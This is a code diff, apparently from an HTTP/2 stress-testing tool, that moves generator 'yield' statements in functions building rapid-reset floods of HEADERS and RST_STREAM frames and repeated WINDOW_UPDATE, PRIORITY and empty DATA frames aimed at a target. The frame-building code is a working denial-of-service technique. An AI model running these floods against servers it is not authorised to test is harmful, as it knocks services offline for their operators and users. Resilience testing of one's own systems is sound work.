@@ -60,6 +60,7 @@ def attack_rapid_reset(target):
 
 def attack_reset_pages(target):
     """Resets of what costs something to answer, with a key that may read."""
+    yield
     block = wire.header_block("GET", "/", [*target.key_headers("read").items(), ("accept", "text/html")])
     reset = (8).to_bytes(4, "big")
 
@@ -67,7 +68,6 @@ def attack_reset_pages(target):
         for first in range(1, 2**30, 40):
             yield 20, b"".join(wire.headers_frame(stream, block) + wire.frame(wire.RST_STREAM, 0, stream, reset) for stream in range(first, first + 40, 2))
 
-    yield
     flood(target, batches)
 
 
@@ -93,6 +93,7 @@ def attack_continuation(target):
 
 def attack_small_frames(target):
     """Window updates, priorities and empty DATA frames."""
+    yield
     post = wire.headers_frame(1, wire.header_block("POST", "/v1/traces", [("content-type", "application/x-protobuf"), *target.key_headers("ingest").items()]), end_stream=False)
     kinds = [(wire.frame(wire.WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 500, b""), (wire.frame(wire.PRIORITY, 0, 1, b"\x00\x00\x00\x00\x01") * 500, b""),
              (wire.frame(wire.DATA, 0, 1) * 500, post)]
@@ -102,5 +103,4 @@ def attack_small_frames(target):
         frames, opening = kinds[next(turns) % len(kinds)]
         return repeated(500, frames, opening)()
 
-    yield
     flood(target, batches)
